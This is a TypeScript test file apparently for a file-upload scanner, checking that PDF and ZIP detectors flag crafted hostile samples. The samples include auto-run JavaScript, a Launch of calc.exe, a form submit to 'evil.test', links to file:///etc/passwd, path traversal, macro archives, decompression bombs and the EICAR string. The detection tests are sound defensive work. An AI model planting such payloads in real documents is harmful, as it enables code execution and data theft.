import { deflateSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { isHostileArchive } from './hostile-archive.ts';
import { isHostilePdf } from './hostile-pdf.ts';
import { builtInScanner } from './scan.ts';

const pdf = (objects: string): Buffer => Buffer.from(`%PDF-1.7\n${objects}\ntrailer\n%%EOF\n`, 'latin1');
const packed = (objects: string): Buffer => {
  const body = deflateSync(Buffer.from(objects));
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n4 0 obj\n<< /Type /ObjStm /N 1 /Filter /FlateDecode /Length ${body.length} >>\nstream\n`,
    ),
    body,
    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
  ]);
};

test.each([
  ['a plain page', pdf('<< /Type /Catalog /Pages 2 0 R >>'), false],
  ['code at opening', pdf('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'), true],
  ['the same with escaped letters', pdf('<< /OpenAction << /S /J#61vaScript /J#53 (x) >> >>'), true],
  ['a program to start', pdf('<< /A << /S /Launch /F (calc.exe) >> >>'), true],
  [
    'a file of the reader’s network at opening',
    pdf('<< /OpenAction << /S /GoToR /F (//evil/x.pdf) >> >>'),
    true,
  ],
  ['a file embedded in another', pdf('<< /A << /S /GoToE /F (x.pdf) >> >>'), true],
  ['what is typed goes away', pdf('<< /OpenAction << /S /SubmitForm /F (https://evil.test/) >> >>'), true],
  ['what is typed comes from a file', pdf('<< /A << /S /ImportData /F (x.fdf) >> >>'), true],
  ['a link to a file', pdf('<< /A << /S /URI /URI (file:///etc/passwd) >> >>'), true],
  ['a link to code', pdf('<< /A << /S /URI /URI(javascript:alert) >> >>'), true],
  ['a link to a page', pdf('<< /A << /S /URI /URI (https://larkfield.test/a) >> >>'), false],
  ['a link to an address of mail', pdf('<< /A << /S /URI /URI (mailto:a@larkfield.test) >> >>'), false],
  ['a link within a site', pdf('<< /A << /S /URI /URI (terms.html) >> >>'), false],
  ['a link to another page of it', pdf('<< /A << /S /GoTo /D [3 0 R /Fit] >> >>'), false],
  ['code in a packed object', packed('<< /S /JavaScript /JS (x) >>'), true],
  ['packed objects without code', packed('<< /Type /Page >>'), false],
  ['words in the text of a page', pdf('5 0 obj << >>\nstream\n(/JS /Launch )\nendstream'), false],
  ['a name that only begins so', pdf('<< /JSON 1 /LaunchDate 2 >>'), false],
  ['a bomb in an object stream', packed('0'.repeat(20_000_000)), true],
  ['a program before the header', Buffer.concat([Buffer.from('MZ'), pdf('')]), true],
  ['an archive behind the end', Buffer.concat([pdf(''), Buffer.from('PK\x05\x06'), Buffer.alloc(18)]), true],
])('PDF: %s', (_name, bytes, expected) => {
  expect(isHostilePdf(bytes)).toBe(expected);
});

/** A ZIP by its table alone: no one looks at the contents. */
function zip(entries: readonly (readonly [name: string, size?: number])[]): Buffer {
  const table = entries.map(([name, size = 10]) => {
    const entry = Buffer.alloc(46 + name.length);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt32LE(size, 24);
    entry.writeUInt16LE(name.length, 28);
    entry.write(name, 46, 'latin1');
    return entry;
  });
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(4, 16);
  return Buffer.concat([Buffer.from('PK\x03\x04'), ...table, end]);
}
const OFFICE = [['[Content_Types].xml'], ['word/document.xml']] as const;

test.each([
  ['a document of Office', zip(OFFICE), true, false],
  ['a document of Office without its types', zip([['word/document.xml']]), true, true],
  ['a macro under a plain ending', zip([...OFFICE, ['word/vbaProject.bin']]), true, true],
  ['texts and pictures', zip([['a.txt'], ['b/c.png']]), false, false],
  ['a program', zip([['a.txt'], ['setup.EXE']]), false, true],
  ['a path out of the folder', zip([['../../etc/passwd']]), false, true],
  ['an absolute path', zip([['/etc/passwd']]), false, true],
  ['a bomb', zip([['a.txt', 4_000_000_000]]), false, true],
  ['no table', Buffer.from('PK\x03\x04 and then nothing at all of a table'), false, true],
])('archive: %s', (_name, bytes, office, expected) => {
  expect(isHostileArchive(bytes, { office })).toBe(expected);
});

test('the test file of virus scanners is found', async () => {
  const eicar = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-' + 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
  expect(await builtInScanner(Buffer.from(eicar))).toBe('infected');
  expect(await builtInScanner(Buffer.from('hello'))).toBe('clean');
});
